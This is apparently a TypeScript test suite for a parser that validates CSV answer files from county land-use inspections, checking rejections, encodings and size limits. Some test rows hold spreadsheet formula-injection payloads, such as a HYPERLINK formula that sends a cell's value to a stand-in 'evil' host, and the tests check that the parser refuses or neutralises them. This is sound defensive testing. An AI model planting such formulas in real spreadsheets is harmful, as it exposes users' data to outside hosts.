// Answer files: each rule of docs/VERIFICATION.md ("Answers", "What is rejected") with the row or file that
// exercises it, and the one outcome the rule gives.
import { describe, expect, it } from 'vitest';
import { AnswerFileError, MAX_ANSWER_ROWS, parseAnswerFile, type AnswerFileInput } from '../src/verification/index.ts';

const COUNTY = '431102';
const A1 = 'LW2024-431102-0123456789';
const A2 = 'LW2024-431102-abcdefabcd';
const OTHER = 'LW2024-431103-0123456789';
const HEADER = 'alert_id,check_result,legality,action,deadline,responsible,photos,checked_by,checked_at,rectified_on';

function input(text: string | Uint8Array, extra: Partial<AnswerFileInput> = {}): AnswerFileInput {
  return {
    file: 'answers.csv',
    bytes: typeof text === 'string' ? new TextEncoder().encode(text) : text,
    countyCode: COUNTY,
    sentBy: 'clerk-a',
    source: 'sha-1',
    knownAlertIds: new Set([A1, A2]),
    ...extra,
  };
}
const csv = (...rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';

describe('answer rows', () => {
  it('applies a valid row with every column, recording who sent it and where it came from', () => {
    const r = parseAnswerFile(input(csv(`${A1},real,illegal,restore,2025-06-30,张三,https://x.cn/a.jpg; https://x.cn/b.jpg,李四,2025-03-01,`)));
    expect(r.rejected).toEqual([]);
    expect(r.answers).toEqual([
      {
        alert_id: A1,
        check_result: 'real',
        legality: 'illegal',
        action: 'restore',
        deadline: '2025-06-30',
        responsible: '张三',
        photos: 'https://x.cn/a.jpg;https://x.cn/b.jpg',
        checked_by: '李四',
        checked_at: '2025-03-01',
        rectified_on: '',
        sent_by: 'clerk-a',
        source: 'sha-1',
        line: 2,
      },
    ]);
  });

  it('accepts a UTF-8 BOM and LF line ends', () => {
    const r = parseAnswerFile(input(`\uFEFF${HEADER}\n${A1},false_change,,,,,,,2025-03-01T08:00:00+08:00,\n`));
    expect(r.answers.map((a) => [a.alert_id, a.check_result, a.line])).toEqual([[A1, 'false_change', 2]]);
  });

  it('skips rows whose answer cells are all blank (a task CSV sent back partly filled)', () => {
    const r = parseAnswerFile(input(csv(`${A1},,,,,,,,,`, `${A2},real,,,,,,,2025-03-02,`)));
    expect([r.skipped, r.answers.length, r.rejected.length]).toEqual([1, 1, 0]);
  });

  const rejections: [string, string, string][] = [
    ['unknown alert id', `LW2024-431102-ffffffffff,real,,,,,,,2025-03-01,`, 'unknown alert_id (not a case of county 431102)'],
    ['alert of another county', `${OTHER},real,,,,,,,2025-03-01,`, 'belongs to county 431103, not 431102'],
    ['bad check_result', `${A1},yes,,,,,,,2025-03-01,`, "check_result 'yes' is not one of real, false_change"],
    ['bad legality', `${A1},real,maybe,,,,,,2025-03-01,`, "legality 'maybe' is not one of legal, illegal, pending (or blank)"],
    ['bad action', `${A1},real,illegal,fine,,,,,2025-03-01,`, "action 'fine' is not one of restore, balance, approved, demolish, other (or blank)"],
    ['impossible deadline', `${A1},real,illegal,restore,2025-02-30,,,,2025-03-01,`, "deadline '2025-02-30' is not a date YYYY-MM-DD"],
    ['missing checked_at', `${A1},real,,,,,,,,`, "checked_at '' is not an ISO date (YYYY-MM-DD or YYYY-MM-DDThh:mm:ssZ)"],
    ['formula in photos', `${A1},real,,,,,"=HYPERLINK(""http://evil/""&A1)",,2025-03-01,`, `photos: '=HYPERLINK("http://evil/"&A1)' is not an http(s) URL (a spreadsheet formula is not accepted)`],
    ['formula in a coded cell', `${A1},=1+1,,,,,,,2025-03-01,`, "check_result '=1+1' is not one of real, false_change"],
    ['empty alert id', `,real,,,,,,,2025-03-01,`, 'alert_id is empty'],
  ];
  for (const [name, row, reason] of rejections) {
    it(`rejects a row: ${name}`, () => {
      const r = parseAnswerFile(input(csv(`${A2},real,,,,,,,2025-03-01,`, row)));
      expect(r.rejected.map((x) => `line ${x.line}: ${x.reason}`)).toEqual([`line 3: ${reason}`]);
      expect(r.answers.map((a) => a.alert_id)).toEqual([A2]);
    });
  }

  it('rejects a row naming another county in a county_code column', () => {
    const r = parseAnswerFile(input(`county_code,${HEADER}\r\n431103,${A1},real,,,,,,,2025-03-01,\r\n`));
    expect(r.rejected).toEqual([{ line: 2, alertId: A1, reason: 'belongs to county 431103, not 431102' }]);
  });

  it('neutralises formula-led free text (= + - @ tab CR) and says where', () => {
    const r = parseAnswerFile(input(csv(`${A1},real,,,,"=HYPERLINK(""http://evil"")",,"@SUM(1)",2025-03-01,`, `${A2},real,,,,"\tx",,-2,2025-03-01,`)));
    expect(r.answers.map((a) => [a.responsible, a.checked_by])).toEqual([
      [`'=HYPERLINK("http://evil")`, `'@SUM(1)`],
      [`'\tx`, `'-2`],
    ]);
    expect(r.neutralised).toEqual([
      { line: 2, column: 'responsible' },
      { line: 2, column: 'checked_by' },
      { line: 3, column: 'responsible' },
      { line: 3, column: 'checked_by' },
    ]);
  });

  it('numbers lines of records after a quoted cell holding line breaks', () => {
    const r = parseAnswerFile(input(csv(`${A1},real,,,,"张\n三",,,2025-03-01,`, `${A2},bad,,,,,,,2025-03-01,`)));
    expect(r.rejected.map((x) => x.line)).toEqual([4]);
  });
});

describe('answer files rejected as a whole', () => {
  const whole = (bytes: string | Uint8Array, reason: string) => {
    let err: unknown;
    try {
      parseAnswerFile(input(bytes));
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(AnswerFileError);
    expect((err as Error).message).toBe(`answers.csv: ${reason}`);
  };
  it('not UTF-8 (GBK bytes)', () => {
    // "张三" in GBK: D5 C5 C8 FD
    const gbk = new Uint8Array([...new TextEncoder().encode(`${HEADER}\r\n${A1},real,,,,`), 0xd5, 0xc5, 0xc8, 0xfd, ...new TextEncoder().encode(',,,2025-03-01,\r\n')]);
    whole(gbk, 'file is not UTF-8 (GBK or another encoding?); save it as CSV UTF-8 (逗号分隔 UTF-8)');
  });
  it('UTF-16', () => whole(new Uint8Array([0xff, 0xfe, 0x61, 0x00]), 'file is UTF-16; save it as CSV UTF-8 (逗号分隔 UTF-8)'));
  it('not a CSV (binary with NUL bytes)', () => whole(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]), 'file holds NUL bytes: not a CSV text file'));
  it('no answer columns', () => whole('name,value\r\na,b\r\n', 'not an answer file: no column alert_id, check_result, checked_at in the first line'));
  it('an unterminated quote', () => whole(`${HEADER}\r\n"${A1},real\r\n`, 'line 2: a quoted cell is never closed'));
  const row = `${A1},real,,,,,,,2025-03-01,\n`;
  it('a million rows (refused by its size before parsing)', () => {
    whole(HEADER + '\n' + row.repeat(1_000_000), `file is ${HEADER.length + 1 + row.length * 1_000_000} bytes, more than the 16777216 an answer file may have`);
  });
  it('more rows than any county has cases, within the size limit', () => {
    whole(HEADER + '\n' + row.repeat(MAX_ANSWER_ROWS + 1), `more than ${MAX_ANSWER_ROWS} rows; an answer file holds one row per case`);
  });
});
